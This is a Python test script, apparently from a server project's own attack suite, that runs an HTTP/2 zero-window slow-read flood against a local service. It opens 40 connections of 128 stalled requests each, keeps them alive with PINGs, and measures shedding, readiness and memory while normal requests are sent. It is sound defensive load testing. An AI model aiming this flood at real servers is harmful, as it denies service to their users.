# HTTP/2 clients that announce INITIAL_WINDOW_SIZE=0, send complete requests (128 streams per
# connection, 40 connections = 5120 > max_requests_in_flight 4096), never open the window and keep
# the connection "busy" with a PING every second. Do they hold in-flight slots / defeat idle_timeout?
import socket, struct, time, os, sys, threading, hpack, urllib.request, urllib.error, json
PORT = int(sys.argv[1]); HOLD = float(sys.argv[2]) if len(sys.argv) > 2 else 20
PID = int(open(os.environ.get('ATTACK_LOGS', 'target/attacks') + '/sluice.pid').read())
def rss(): return int([l for l in open(f'/proc/{PID}/status') if l.startswith('VmRSS')][0].split()[1])
def frame(t, flags, sid, payload=b''): return struct.pack('>I', len(payload))[1:] + bytes([t, flags]) + struct.pack('>I', sid) + payload
body = b'{"user":"zw","item":"x"}'
def conn(k, stats):
    enc = hpack.Encoder()
    s = socket.create_connection(('127.0.0.1', PORT)); s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(4, 0, 0, struct.pack('>HI', 4, 0)))
    out = b''
    for i in range(128):
        sid = 2 * i + 1
        if PORT == 18080:
            out += frame(1, 4, sid, enc.encode([(':method', 'POST'), (':scheme', 'http'), (':path', '/v1/acquire'), (':authority', 'a'), ('content-type', 'application/json')])) + frame(0, 1, sid, body)
        else:
            out += frame(1, 5, sid, enc.encode([(':method', 'GET'), (':scheme', 'http'), (':path', '/big%d' % k), (':authority', 'a'), ('x-user-id', 'zw%d_%d' % (k, i))]))
    s.sendall(out); t0 = time.time(); s.settimeout(0.2)
    while time.time() - t0 < HOLD:
        try:
            s.sendall(frame(6, 0, 0, struct.pack('>Q', 1)))
            try:
                d = s.recv(4096)   # read control frames only (server data is blocked by window 0)
                if not d: stats['closed'].append(time.time() - t0); return
            except socket.timeout: pass
        except OSError: stats['closed'].append(time.time() - t0); return
        time.sleep(1)
    s.close()
stats = {'closed': []}
r0 = rss()
ts = [threading.Thread(target=conn, args=(k, stats)) for k in range(int(os.environ.get("CONNS", "40")))]; [t.start() for t in ts]
time.sleep(3)
res = {}
for j in range(10):
    try:
        if PORT == 18080: r = urllib.request.urlopen(urllib.request.Request('http://127.0.0.1:18080/v1/acquire', data=b'{"user":"legit%d","item":"x"}' % j), timeout=5)
        else: r = urllib.request.urlopen(urllib.request.Request('http://127.0.0.1:18000/legit', headers={'x-user-id': 'legit%d' % j}), timeout=5)
        code = r.status
    except urllib.error.HTTPError as e: code = e.code
    except Exception as e: code = type(e).__name__
    res[code] = res.get(code, 0) + 1
m = urllib.request.urlopen('http://127.0.0.1:18090/metrics').read().decode()
shed = [l for l in m.splitlines() if l.startswith('sluice_requests_shed_total')]
try: ready = urllib.request.urlopen('http://127.0.0.1:18090/readyz').read().decode()[:100]
except urllib.error.HTTPError as e: ready = f'{e.code} {e.read().decode()[:120]}'
print('readyz:', ready)
print(f'port {PORT}: legit requests during hold: {res}; shed metrics: {shed}; RSS {r0}->{rss()} kB')
[t.join() for t in ts]
print(f'connections closed by server: {len(stats["closed"])} of {len(ts)}, after {sorted(stats["closed"])[:1]}..s (hold {HOLD}s)')
